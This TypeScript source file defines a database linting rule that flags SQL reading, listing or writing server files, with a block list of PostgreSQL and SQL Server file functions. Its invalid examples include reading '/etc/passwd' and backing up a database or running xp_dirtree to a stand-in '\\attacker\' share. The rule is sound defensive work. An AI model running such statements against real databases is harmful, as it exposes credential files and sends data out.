import { callsOfBuiltins, callsOfProcedures, eachPlace, setOf } from './calls.ts';
import { type Rule, tsql } from './rule.ts';

const functions = setOf(
  `pg_read_file pg_read_binary_file pg_ls_dir pg_ls_logdir pg_ls_waldir pg_ls_tmpdir pg_ls_archive_statusdir
  pg_ls_summariesdir pg_ls_replslotdir pg_ls_logicalsnapdir pg_ls_logicalmapdir pg_stat_file pg_file_write pg_file_read
  pg_file_rename pg_file_unlink pg_file_sync pg_logdir_ls lo_import lo_export dm_os_file_exists
  dm_os_enumerate_filesystem fn_trace_gettable fn_xe_file_target_read_file`,
);
/** Undocumented procedures of SQL Server that look at, make or delete files. */
const procedures = setOf(
  `xp_dirtree xp_subdirs xp_fileexist xp_fixeddrives xp_availablemedia xp_create_subdir xp_delete_file xp_delete_files
  xp_copy_file xp_copy_files xp_readerrorlog`,
);

/** Whether a procedure reads or writes files of the server. */
export const readsFiles = (name: string): boolean => procedures.has(name);

export default {
  id: 'file-access',
  severity: 'error',
  effect: { development: 'requireApproval', staging: 'requireApproval', production: 'deny' },
  suppressible: false,
  docs: {
    title: "Reads or writes the server's files",
    problem: 'The statement reads, lists or writes files on the machine of the database.',
    why: "Files lie outside of every table's rights, masks and row filters: keys, backups and other databases are among them, and a file that is written can be run later.",
    remedy: 'Load and unload data through the client: COPY … FROM STDIN and TO STDOUT, or a bulk copy of the client.',
    invalid: [
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT name FROM pg_catalog.pg_ls_dir('.') AS d(name)",
      "COPY products TO '/tmp/products.csv'",
      "SELECT lo_import('/etc/passwd')",
      tsql("BULK INSERT products FROM '\\\\share\\products.csv'"),
      tsql("EXEC master.sys.xp_dirtree '\\\\attacker\\share'"),
      tsql("BACKUP DATABASE shop TO DISK = '\\\\attacker\\shop.bak'"),
    ],
    valid: [
      'COPY (SELECT sku FROM products LIMIT 10) TO STDOUT',
      "SELECT sku FROM products WHERE name = 'pg_read_file'",
      tsql("SELECT sku FROM products WHERE name = 'xp_dirtree'"),
    ],
    source: 'PostgreSQL, “Generic File Access Functions”; OWASP, Testing for SQL Injection: reading and writing files.',
  },
  check(statement, _context, report) {
    for (const { kind, name, span } of statement.actions)
      if (kind === 'file') report({ span, message: `${name} opens files on the machine of the database.` });
    const calls = [...callsOfBuiltins(statement, functions), ...callsOfProcedures(statement, readsFiles)];
    for (const { name, span } of eachPlace(calls))
      report({ span, message: `This calls ${name}, which looks at or changes files on the machine of the database.` });
  },
} satisfies Rule;
